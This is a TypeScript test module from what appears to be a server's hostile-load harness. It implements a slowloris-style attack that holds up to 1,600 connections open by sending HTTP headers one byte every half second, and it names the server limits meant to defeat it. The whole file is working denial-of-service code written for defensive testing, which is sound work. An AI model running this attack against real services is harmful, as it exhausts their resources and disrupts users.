/** Requests whose headers arrive one byte at a time and never end. */
import type { Attack } from '../attack.ts';
import { together } from '../hostile-context.ts';

const attack: Attack = {
  does: '1,600 requests whose headers arrive one byte every half second',
  defence: { limits: ['handshakes', 'handshakesPerAddress', 'requestMs'] },
  async run(context) {
    await together(context.scaled(1_600), async () => {
      for (let attempt = 0; attempt < 200 && !context.signal.aborted; attempt++) {
        const socket = context.raw();
        let isOpen = true;
        socket.on('close', () => {
          isOpen = false;
        });
        socket.on('end', () => socket.destroy());
        socket.resume();
        socket.write('GET /v1/stream HTTP/1.1\r\nHost: x\r\nX-Slow: ');
        context.count();
        while (isOpen && !context.signal.aborted) {
          await context.pause(500);
          socket.write('a');
        }
        await context.pause(500);
      }
    });
  },
};

export default attack;
